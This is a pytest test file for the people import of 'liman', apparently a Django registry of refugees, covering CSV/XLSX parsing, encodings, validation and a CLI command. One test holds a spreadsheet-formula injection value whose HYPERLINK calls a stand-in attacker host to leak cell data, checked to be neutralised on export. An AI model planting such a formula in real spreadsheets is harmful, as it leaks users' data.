"""The people import: real CSV and XLSX files, checked row by row, committed into people, households,
foreigner IDs and legal statuses; the `liman import people` command and its exit status."""

from __future__ import annotations

import csv
import datetime
import io
import os
import re
import subprocess
import sys
from pathlib import Path

import openpyxl
import pytest
from django.core.management import CommandError, call_command
from django.urls import reverse
from hypothesis import given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st

from liman.core.choices import AuditAction, Role
from liman.core.models import AuditEvent, ImportBatch
from liman.core.staging import ImportRefused, import_commit, import_stage, problem_report, staged_row_data
from liman.core.tabular import csv_bytes
from liman.registry import search
from liman.registry.choices import DatePrecision, IdentifierType, LegalStatusType, Relationship
from liman.registry.identifiers import normalise_phone, ykn_with_checksum
from liman.registry.importers import PeopleImporter
from liman.registry.models import Household, HouseholdMember, Identifier, LegalStatus, Person
from tests.factories import staff

COLUMNS = [
    "first_name",
    "father_name",
    "family_name",
    "sex",
    "birth_date",
    "nationality",
    "phone",
    "foreigner_id",
    "household_ref",
    "relationship",
    "legal_status",
    "original_name",
    "legal_status_from",
    "legal_status_until",
    "consent_purpose",
    "consent_legal_basis",
]
YKN = ykn_with_checksum("991234567")
OTHER_YKN = ykn_with_checksum("992345678")
BAD_CHECKSUM_YKN = YKN[:-1] + str((int(YKN[-1]) + 1) % 10)


def person(**values) -> dict[str, str]:
    row = {
        "first_name": "Ahmad",
        "father_name": "Ali",
        "family_name": "Al-Hassan",
        "sex": "M",
        "birth_date": "1985-03-02",
        "nationality": "SYR",
        "phone": "",
        "foreigner_id": "",
        "household_ref": "H1",
        "relationship": "head",
        "legal_status": "temporary_protection",
        "original_name": "",
    }
    row.update(values)
    return row


FAMILY = [
    person(phone="0532 123 45 67", foreigner_id=YKN, original_name="أحمد الحسن"),
    person(first_name="Fatma", father_name="", sex="F", birth_date="1990", relationship="spouse"),
    person(first_name="Omar", sex="M", birth_date="2015-06-30", relationship="child"),
    person(
        first_name="Zahra",
        family_name="Rahimi",
        sex="F",
        birth_date="1978",
        nationality="AFG",
        household_ref="H2",
        legal_status="international_protection_applicant",
        original_name="زهرا رحیمی",
    ),
]


def csv_data(rows: list[dict], *, encoding: str = "utf-8", columns=COLUMNS) -> bytes:
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=columns, lineterminator="\r\n", extrasaction="ignore")
    writer.writeheader()
    writer.writerows(rows)
    return buffer.getvalue().encode(encoding)


def stage(office, data: bytes, name: str = "people.csv", by=None) -> ImportBatch:
    return import_stage(
        kind="people",
        file=io.BytesIO(data),
        file_name=name,
        office=office,
        by=by,
        declared={"legal_basis": "consent"},
    )


def report(batch) -> list[tuple]:
    return list(problem_report(batch))


def staged_values(batch) -> list[dict]:
    return [staged_row_data(batch, row)["values"] for row in batch.rows.order_by("row_number")]


def blocking(batch) -> list[tuple]:
    return [(row, column, message) for row, column, message, blocks in report(batch) if blocks]


pytestmark = pytest.mark.django_db


# --- a good file ---------------------------------------------------------------------------------------------


def test_a_valid_csv_registers_people_households_ids_and_legal_statuses(istanbul):
    caseworker = staff(Role.CASEWORKER, istanbul)
    batch = stage(istanbul, csv_data(FAMILY), by=caseworker)
    assert batch.state == ImportBatch.State.VALID, report(batch)
    import_commit(batch=batch, by=caseworker)

    ahmad = Person.objects.get(first_name="Ahmad")
    assert (ahmad.office, ahmad.phone, ahmad.nationality, ahmad.created_by) == (
        istanbul,
        "+905321234567",
        "SYR",
        caseworker,
    )
    assert ahmad.reference.startswith("IST-") and ahmad.original_name == "أحمد الحسن"
    assert ahmad.identifiers.get().value == YKN and ahmad.identifiers.get().type == IdentifierType.FOREIGNER_ID
    assert Person.objects.get(phone_index="+90 532 123 45 67") == ahmad  # the blind index finds the phone
    assert list(LegalStatus.objects.order_by("person__first_name").values_list("status", flat=True)) == [
        LegalStatusType.TEMPORARY_PROTECTION,
        LegalStatusType.TEMPORARY_PROTECTION,
        LegalStatusType.TEMPORARY_PROTECTION,
        LegalStatusType.INTERNATIONAL_PROTECTION_APPLICANT,
    ]
    family = Household.objects.get(head=ahmad)
    assert family.reference.startswith("IST-H-") and family.office == istanbul
    assert dict(family.members.values_list("person__first_name", "relationship")) == {
        "Ahmad": Relationship.HEAD,
        "Fatma": Relationship.SPOUSE,
        "Omar": Relationship.CHILD,
    }
    assert Household.objects.get(head__first_name="Zahra").members.count() == 1
    assert HouseholdMember.objects.count() == 4


def test_a_year_only_birth_date_is_stored_as_1_january_with_year_precision(istanbul):
    import_commit(batch=stage(istanbul, csv_data(FAMILY)), by=None)
    fatma = Person.objects.get(first_name="Fatma")
    assert (fatma.birth_date, fatma.birth_date_precision) == (datetime.date(1990, 1, 1), DatePrecision.YEAR)
    assert fatma.birth_date_display == "1990"
    omar = Person.objects.get(first_name="Omar")
    assert (omar.birth_date, omar.birth_date_precision) == (datetime.date(2015, 6, 30), DatePrecision.DAY)


def test_the_commit_audits_the_batch_and_each_kind_of_record_it_created(istanbul):
    batch = import_commit(batch=stage(istanbul, csv_data(FAMILY)), by=None)
    event = AuditEvent.objects.get(object_type="core.importbatch")
    assert (event.action, event.object_id) == (AuditAction.CREATE, str(batch.pk))
    assert event.changes == {
        "people": [None, "4"],
        "households": [None, "2"],
        "identifiers": [None, "1"],
        "legal_statuses": [None, "4"],
        "consents": [None, "4"],
    }
    people = AuditEvent.objects.get(object_type="registry.person")
    assert sorted(people.changes["id"][1]) == sorted(str(pk) for pk in Person.objects.values_list("pk", flat=True))
    assert people.office_id == istanbul.pk and people.reason == "Import of people.csv"
    assert set(AuditEvent.objects.values_list("object_type", flat=True)) == {
        "core.importbatch",
        "registry.person",
        "registry.household",
        "registry.identifier",
        "registry.legalstatus",
        "registry.consent",
    }


def test_a_bad_foreigner_id_checksum_warns_and_is_kept_with_the_identifier(istanbul):
    batch = stage(istanbul, csv_data([person(foreigner_id=BAD_CHECKSUM_YKN)]))
    assert batch.state == ImportBatch.State.VALID
    assert report(batch) == [
        (2, "foreigner_id", "The foreigner ID's check digits do not match: check it against the document.", False)
    ]
    import_commit(batch=batch, by=None)
    assert Identifier.objects.get().warning.startswith("The foreigner ID's check digits do not match")


def test_imported_people_are_found_by_the_search_as_soon_as_the_import_commits(istanbul):
    registrar = staff(Role.CASEWORKER, istanbul)
    import_commit(batch=stage(istanbul, csv_data(FAMILY)), by=None)
    found = search.person_search(registrar, text="Zahra Rehimi", birth_date=datetime.date(1978, 1, 1))
    assert [match.person.first_name for match in found][:1] == ["Zahra"]
    assert "Omar" in [match.person.first_name for match in search.person_search(registrar, text="Umar Alhassan")]


def test_imported_people_get_the_same_search_keys_as_a_registration_writes(istanbul):
    import_commit(batch=stage(istanbul, csv_data(FAMILY)), by=None)
    for registered in Person.objects.all():
        keys = set(registered.search_keys.values_list("kind", "key"))
        assert keys == search.search_keys(registered)
        assert set(registered.search_keys.values_list("office_id", "sensitivity")) == {(istanbul.pk, "normal")}


@pytest.mark.parametrize(
    "written",
    ["0532 123 45 67", "05321234567", "5321234567", "+90 532 123 4567", "0090 532 123 45 67", "+90 (532) 123-4567"],
)
def test_a_turkish_mobile_number_is_stored_in_e164_however_it_is_written(istanbul, written):
    import_commit(batch=stage(istanbul, csv_data([person(phone=written)])), by=None)
    assert Person.objects.get().phone == "+905321234567"


# --- encodings and formats -----------------------------------------------------------------------------------


def test_a_utf8_file_with_a_bom_reads_the_same(istanbul):
    batch = stage(istanbul, b"\xef\xbb\xbf" + csv_data(FAMILY))
    assert batch.state == ImportBatch.State.VALID and batch.encoding == "utf-8-sig"
    assert staged_values(batch) == staged_values(stage(istanbul, csv_data(FAMILY)))


def test_a_windows_1254_file_from_turkish_excel_is_read_with_a_notice(istanbul):
    rows = [person(first_name="Ayşe", father_name="Şükrü", family_name="Çağlayan-Öztürk", sex="F", nationality="TUR")]
    batch = stage(istanbul, csv_data(rows, encoding="cp1254"))
    assert batch.encoding == "cp1254" and "Windows-1254" in batch.notices[0]
    import_commit(batch=batch, by=None)
    assert Person.objects.get().full_name == "Ayşe Şükrü Çağlayan-Öztürk"


def test_a_file_in_another_encoding_is_refused(istanbul):
    latin1 = csv_data([person()]) + b"Jos\x8d,,Doe,M,1990,SYR,,,H9,head,refugee,\r\n"
    with pytest.raises(ImportRefused, match="neither UTF-8 nor Windows-1254"):
        stage(istanbul, latin1)
    assert not ImportBatch.objects.exists()


def xlsx_data(rows: list[list]) -> bytes:
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(COLUMNS)
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def test_an_xlsx_with_typed_cells_gives_the_same_result_as_the_csv(istanbul):
    typed = xlsx_data(
        [
            ["Ahmad", "Ali", "Al-Hassan", "M", datetime.date(1985, 3, 2), "SYR", 5321234567, int(YKN), "H1", "head",
             "temporary_protection", "أحمد الحسن"],
            ["Fatma", None, "Al-Hassan", "F", 1990, "SYR", None, None, "H1", "spouse", "temporary_protection", None],
            ["Omar", "Ali", "Al-Hassan", "M", datetime.datetime(2015, 6, 30), "SYR", None, None, "H1", "child",
             "temporary_protection", None],
            ["Zahra", "Ali", "Rahimi", "F", 1978.0, "AFG", None, None, "H2", "head",
             "international_protection_applicant", "زهرا رحیمی"],
        ]
    )  # fmt: skip
    from_xlsx = stage(istanbul, typed, name="people.xlsx")
    from_csv = stage(istanbul, csv_data([{**FAMILY[0], "phone": "5321234567"}, *FAMILY[1:]]))
    assert from_xlsx.state == from_csv.state == ImportBatch.State.VALID
    assert staged_values(from_xlsx) == staged_values(from_csv)
    assert report(from_xlsx) == report(from_csv) == []


def test_a_pdf_renamed_csv_is_refused(istanbul):
    with pytest.raises(ImportRefused, match="named .csv but it is a PDF document"):
        stage(istanbul, b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n%%EOF\n")


def test_a_csv_renamed_xlsx_is_refused(istanbul):
    with pytest.raises(ImportRefused, match=r"named .xlsx but it is text \(CSV\)"):
        stage(istanbul, csv_data(FAMILY), name="people.xlsx")


# --- text kept as given --------------------------------------------------------------------------------------


def test_names_are_stored_exactly_as_given(istanbul):
    persian = "محمد\u200cرضا"  # the zero-width non-joiner belongs to the spelling
    rows = [person(first_name="D'Arcy", father_name='Abu "Ali"', family_name="O'Brien", original_name=persian)]
    import_commit(batch=stage(istanbul, csv_data(rows)), by=None)
    stored = Person.objects.get()
    assert (stored.first_name, stored.father_name, stored.family_name) == ("D'Arcy", 'Abu "Ali"', "O'Brien")
    assert stored.original_name.encode("utf-8") == persian.encode("utf-8")


def test_a_bidi_override_in_a_name_is_removed_with_a_warning(istanbul):
    batch = stage(istanbul, csv_data([person(family_name="Al-\u202enassaH\u202c")]))
    assert batch.state == ImportBatch.State.VALID
    assert [(row, column, blocks) for row, column, _message, blocks in report(batch)] == [(2, "family_name", False)]
    import_commit(batch=batch, by=None)
    assert Person.objects.get().family_name == "Al-nassaH"


def test_a_formula_in_a_name_is_stored_as_text_and_neutralised_on_export(istanbul):
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Ahmad")'
    batch = stage(istanbul, csv_data([person(first_name=formula)]))
    assert report(batch) == [(2, "first_name", "This looks like a spreadsheet formula; it is kept as text.", False)]
    import_commit(batch=batch, by=None)
    stored = Person.objects.get()
    assert stored.first_name == formula
    exported = list(csv.reader(io.StringIO(csv_bytes([[stored.first_name, stored.family_name]]).decode("utf-8-sig"))))
    assert exported == [["'" + formula, "Al-Hassan"]]


def test_an_oversize_name_blocks(istanbul):
    batch = stage(istanbul, csv_data([person(first_name="A" * 101)]))
    assert blocking(batch) == [(2, "first_name", "At most 100 characters (this has 101).")]


# --- one cell at a time --------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "message"),
    [
        ("1990-02-30", "1990-02-30 is not a real date."),
        ("2999-01-01", "2999-01-01 is in the future."),
        ("2999", "2999 is in the future."),
        ("1850", "Check the year: 1850 is before 1900."),
        ("02/03/1990", "Write the date as YYYY-MM-DD, or YYYY when only the year is known (this says “02/03/1990”)."),
        ("", "A value is required: YYYY-MM-DD, or YYYY when only the year is known."),
    ],
)
def test_impossible_future_or_badly_written_birth_dates_block(istanbul, value, message):
    batch = stage(istanbul, csv_data([person(birth_date=value)]))
    assert batch.state == ImportBatch.State.INVALID
    assert blocking(batch) == [(2, "birth_date", message)]


def test_tomorrow_is_in_the_future(istanbul):
    from django.utils import timezone

    tomorrow = (timezone.localdate() + datetime.timedelta(days=1)).isoformat()
    assert blocking(stage(istanbul, csv_data([person(birth_date=tomorrow)]))) == [
        (2, "birth_date", f"{tomorrow} is in the future.")
    ]


@pytest.mark.parametrize(
    ("column", "value", "message"),
    [
        ("first_name", " ", "A value is required."),
        ("sex", "X", "Write M or F (this says “X”)."),
        ("nationality", "SY", "“SY” is not an ISO 3166 three-letter country code. Did you mean SYR?"),
        ("nationality", "Narnia", "“Narnia” is not an ISO 3166 three-letter country code."),
        ("phone", "call me", "“call me” is not a phone number."),
        ("foreigner_id", "12345", "A foreigner ID (YKN) has 11 digits."),
        ("foreigner_id", "12345678901", "A foreigner ID (YKN) starts with 99."),
        ("legal_status", "tourist", "“tourist” is not one of: " + ", ".join(LegalStatusType.values) + "."),
    ],
)
def test_a_bad_cell_blocks_with_a_message_naming_what_is_wrong(istanbul, column, value, message):
    assert blocking(stage(istanbul, csv_data([person(**{column: value})]))) == [(2, column, message)]


def test_values_are_accepted_whatever_their_case(istanbul):
    batch = stage(istanbul, csv_data([person(sex="f", nationality="syr", relationship="HEAD", legal_status="Refugee")]))
    assert batch.state == ImportBatch.State.VALID
    values = staged_values(batch)[0]
    assert (values["sex"], values["nationality"], values["relationship"], values["legal_status"]) == (
        "F",
        "SYR",
        "head",
        "refugee",
    )


def test_a_stateless_person_takes_the_icao_code(istanbul):
    batch = stage(istanbul, csv_data([person(nationality="XXA", legal_status="stateless")]))
    assert batch.state == ImportBatch.State.VALID


def test_blank_optional_cells_are_fine(istanbul):
    batch = stage(istanbul, csv_data([person(father_name="", phone="", foreigner_id="", original_name="")]))
    assert batch.state == ImportBatch.State.VALID


def test_the_original_name_column_may_be_left_out(istanbul):
    batch = stage(istanbul, csv_data(FAMILY, columns=COLUMNS[:-1]))
    assert batch.state == ImportBatch.State.VALID


# --- across rows ---------------------------------------------------------------------------------------------


def test_a_repeated_row_blocks(istanbul):
    batch = stage(istanbul, csv_data([*FAMILY, FAMILY[2]]))
    assert blocking(batch) == [(6, "", "This row repeats row 4.")]


def test_the_same_person_twice_in_a_household_blocks(istanbul):
    batch = stage(istanbul, csv_data([*FAMILY, {**FAMILY[2], "first_name": "OMAR", "legal_status": "refugee"}]))
    assert blocking(batch) == [
        (6, "", "The same person as row 4: same name, sex and date of birth in the same household.")
    ]


def test_the_same_foreigner_id_on_two_rows_blocks(istanbul):
    batch = stage(istanbul, csv_data([*FAMILY, person(first_name="Other", household_ref="H3", foreigner_id=YKN)]))
    assert blocking(batch) == [(6, "foreigner_id", "Row 2 has the same foreigner ID.")]


def test_a_foreigner_id_already_registered_blocks(istanbul, izmir):
    import_commit(batch=stage(izmir, csv_data([person(foreigner_id=YKN)])), by=None)
    batch = stage(istanbul, csv_data([person(first_name="Ahmed", foreigner_id=YKN)]))
    assert blocking(batch) == [
        (
            2,
            "foreigner_id",
            "A person with this foreigner ID is already registered: find them instead of importing the row.",
        )
    ]


def test_a_household_with_two_heads_blocks_on_both(istanbul):
    batch = stage(istanbul, csv_data([FAMILY[0], {**FAMILY[1], "relationship": "head"}]))
    message = "Household “H1” has 2 heads (rows 2, 3); it must have exactly one."
    assert blocking(batch) == [(2, "relationship", message), (3, "relationship", message)]


def test_a_household_without_a_head_blocks_on_every_member(istanbul):
    batch = stage(istanbul, csv_data([FAMILY[1], FAMILY[2], FAMILY[3]]))
    message = "Household “H1” has no head: give one member the relationship “head”."
    assert blocking(batch) == [(2, "household_ref", message), (3, "household_ref", message)]


def test_nothing_is_written_while_a_row_blocks(istanbul):
    batch = stage(istanbul, csv_data([*FAMILY, person(first_name="Bad", household_ref="H9", sex="?")]))
    with pytest.raises(ImportRefused):
        import_commit(batch=batch, by=None)
    assert not Person.objects.exists() and not Household.objects.exists()


# --- the page ------------------------------------------------------------------------------------------------


def test_the_people_template_has_exactly_the_issue_columns(client, istanbul, settings):
    settings.LIMAN_SECOND_FACTOR_ROLES = []
    client.force_login(staff(Role.CASEWORKER, istanbul))
    workbook = openpyxl.load_workbook(
        io.BytesIO(client.get(reverse("core:import-template-xlsx", args=["people"])).content)
    )
    assert [cell.value for cell in workbook.worksheets[0][1]] == COLUMNS
    assert PeopleImporter.column_names() == COLUMNS
    template = client.get(reverse("core:import-template-csv", args=["people"])).content.decode("utf-8-sig")
    assert template == ",".join(COLUMNS) + "\r\n"


def test_an_xlsx_uploaded_on_the_page_is_reported_then_committed(client, istanbul, settings):
    settings.LIMAN_SECOND_FACTOR_ROLES = []
    client.force_login(staff(Role.SUPERVISOR, istanbul))
    upload = io.BytesIO(xlsx_data([["Ali", "", "Kaya", "M", 1990, "SYR", None, None, "K1", "head", "refugee", None]]))
    upload.name = "people.xlsx"
    response = client.post(
        reverse("core:import-new"), {"kind": "people", "office": istanbul.pk, "file": upload, "legal_basis": "consent"}
    )
    batch = ImportBatch.objects.get()
    assert response["Location"] == reverse("core:import-detail", args=[batch.pk])
    assert "Ready to commit" in client.get(response["Location"]).content.decode()
    client.post(reverse("core:import-commit", args=[batch.pk]))
    assert Person.objects.get().full_name == "Ali Kaya"


# --- the command ---------------------------------------------------------------------------------------------


@pytest.fixture
def people_file(tmp_path):
    def write(data: bytes, name: str = "people.csv") -> str:
        path = tmp_path / name
        path.write_bytes(data)
        return str(path)

    return write


def run(*args, **options) -> tuple[str, str]:
    out, err = io.StringIO(), io.StringIO()
    options.setdefault("legal_basis", "consent")
    call_command("import", *args, stdout=out, stderr=err, **options)
    return out.getvalue(), err.getvalue()


def test_the_command_imports_a_valid_file_and_says_what_it_wrote(istanbul, people_file):
    out, _err = run("people", people_file(csv_data(FAMILY)), office="ist")
    assert "people.csv: 4 rows, 0 blocking problems, 0 warnings." in out
    assert "Imported people.csv: 4 people, 2 households, 1 identifiers, 4 legal statuses" in out
    assert Person.objects.count() == 4


def test_the_command_dry_run_reports_and_writes_nothing(istanbul, people_file):
    out, _err = run("people", people_file(csv_data(FAMILY)), office="IST", dry_run=True)
    assert "Dry run: people.csv can be imported. Nothing was written." in out
    assert not Person.objects.exists() and not ImportBatch.objects.exists()


def test_the_command_prints_the_report_and_exits_1_when_rows_block(istanbul, people_file):
    path = people_file(csv_data([*FAMILY, person(first_name="Bad", household_ref="H9", birth_date="1990-02-30")]))
    out = io.StringIO()
    with pytest.raises(CommandError, match="rejected: 1 blocking problem. Nothing was written.") as caught:
        call_command("import", "people", path, office="IST", legal_basis="consent", stdout=out)
    assert caught.value.returncode == 1
    assert "      6  birth_date  yes     1990-02-30 is not a real date." in out.getvalue()
    assert not Person.objects.exists() and not ImportBatch.objects.exists()


@pytest.mark.parametrize(
    ("data", "name", "message"),
    [
        (b"%PDF-1.4\n%%EOF\n", "people.csv", "it is a PDF document"),
        (csv_data(FAMILY), "people.xlsx", r"it is text \(CSV\)"),
        (b"", "people.csv", "The file is empty."),
        (",".join(COLUMNS).encode() + b"\r\n", "people.csv", "The file has a header row but no data rows."),
        (b"first_name,colour\r\nAli,blue\r\n", "people.csv", "Unknown columns: colour."),
    ],
)
def test_the_command_exits_1_on_a_file_it_cannot_take(istanbul, people_file, data, name, message):
    err = io.StringIO()
    with pytest.raises(CommandError, match="was rejected; nothing was written.") as caught:
        call_command("import", "people", people_file(data, name), office="IST", stderr=err)
    assert caught.value.returncode == 1
    assert any(re.search(message, line) for line in err.getvalue().splitlines())


def test_the_command_checks_the_users_roles(istanbul, izmir, people_file):
    staff(Role.CASEWORKER, izmir, username="elsewhere")
    with pytest.raises(CommandError, match="You may not import People into IST."):
        call_command("import", "people", people_file(csv_data(FAMILY)), office="IST", user="elsewhere")
    staff(Role.CASEWORKER, istanbul, username="here")
    run("people", people_file(csv_data(FAMILY)), office="IST", user="here")
    assert Person.objects.filter(created_by__username="here").count() == 4


def test_the_command_names_an_unknown_office(istanbul, people_file):
    with pytest.raises(CommandError, match="There is no office with the code 'XXX'."):
        call_command("import", "people", people_file(csv_data(FAMILY)), office="XXX")


def test_the_liman_console_script_exits_1_when_it_rejects_a_file(tmp_path):
    """The real `liman` command, on a throwaway SQLite database of its own."""
    liman = Path(sys.executable).with_name("liman")
    env = {
        **os.environ,
        "DJANGO_SETTINGS_MODULE": "liman.settings",
        "LIMAN_VAR_DIR": str(tmp_path),
        "DATABASE_URL": f"sqlite:///{tmp_path / 'db.sqlite3'}",
        "LIMAN_FIELD_KEYS": "qQdhGAWPo0e_pt_DhChbBEm8n2UqzRr55C2EW1kVoEw=",
        "LIMAN_BLIND_INDEX_KEY": "console-script-test-blind-index-key",
    }
    # The registry, the duplicate checks every people import runs, and what they stand on are enough (and quicker
    # to create than every app).
    for app in ("core", "registry", "dedup"):
        subprocess.run([liman, "migrate", app, "-v0"], env=env, check=True, capture_output=True)
    create_office = (
        "from liman.core.models import AdminArea, Office; "
        "Office.objects.create(code='IST', name='Istanbul', type='sub', province=AdminArea.objects.get(pcode='TUR034'))"
    )
    subprocess.run([liman, "shell", "-c", create_office], env=env, check=True, capture_output=True)
    rejected = tmp_path / "people.csv"
    rejected.write_bytes(b"%PDF-1.4\n%%EOF\n")
    result = subprocess.run(
        [liman, "import", "people", str(rejected), "--office", "IST"], env=env, capture_output=True, text=True
    )
    assert result.returncode == 1
    assert "people.csv was rejected; nothing was written." in result.stderr

    accepted = tmp_path / "family.csv"
    accepted.write_bytes(csv_data(FAMILY))
    result = subprocess.run(
        [liman, "import", "people", str(accepted), "--office", "IST", "--legal-basis", "consent"],
        env=env,
        capture_output=True,
        text=True,
    )
    assert result.returncode == 0, result.stderr
    assert "Imported family.csv: 4 people" in result.stdout


@hypothesis_settings(max_examples=200, deadline=None)
@given(
    prefix=st.sampled_from(["", "0", "+90", "0090", "+9", "90", "00", "1"]),
    digits=st.text(alphabet="0123456789", min_size=9, max_size=11),
    spaces=st.lists(st.integers(min_value=0, max_value=12), max_size=4),
)
def test_the_fast_path_for_mobile_numbers_agrees_with_libphonenumber(prefix, digits, spaces):
    text = prefix + digits
    for position in sorted(spaces, reverse=True):
        text = text[:position] + " " + text[position:]
    try:
        expected = normalise_phone(text)
    except ValueError:
        expected = ""
    assert PeopleImporter(office=None)._phone(text, []) == expected


def test_new_references_are_distinct_unused_and_spread_over_the_whole_alphabet(istanbul, monkeypatch):
    import base64
    import collections
    import secrets

    from liman.core import staging
    from liman.core.services import REFERENCE_ALPHABET
    from liman.registry import services

    taken = services.person_register(
        office=istanbul,
        data=services.PersonInput(first_name="Ali", family_name="Kaya", sex="M", nationality="TUR"),
        by=None,
    ).reference
    # The first draw gives the reference already taken (and one more): it must be drawn again.
    to_base32 = str.maketrans(REFERENCE_ALPHABET, "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567")
    real = secrets.token_bytes
    draws = iter([base64.b32decode(taken.split("-")[1].translate(to_base32)) + real(5)])
    monkeypatch.setattr(staging.secrets, "token_bytes", lambda n: next(draws, None) or real(n))
    assert taken not in staging.new_references("IST", Person, 2)

    references = staging.new_references("IST", Person, 5000)
    assert len(set(references)) == 5000
    assert all(re.fullmatch(rf"IST-[{REFERENCE_ALPHABET}]{{8}}", reference) for reference in references)
    letters = collections.Counter("".join(reference[4:] for reference in references))
    assert set(letters) == set(REFERENCE_ALPHABET)
    assert all(1000 < count < 1500 for count in letters.values()), letters  # 1,250 of each expected
